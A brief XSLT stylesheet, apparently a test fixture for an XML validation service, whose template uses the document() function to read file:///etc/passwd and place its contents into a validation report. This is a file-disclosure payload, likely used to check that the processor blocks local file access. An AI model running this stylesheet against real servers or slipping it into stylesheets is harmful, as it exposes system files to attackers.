<?xml version="1.0" encoding="UTF-8"?>
<!-- Reads a file of the system. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="http://www.istandaarden.nl/validatie/1_1/rapport/schema">
  <xsl:template match="/">
    <r:Rapport><xsl:value-of select="document('file:///etc/passwd')"/></r:Rapport>
  </xsl:template>
</xsl:stylesheet>
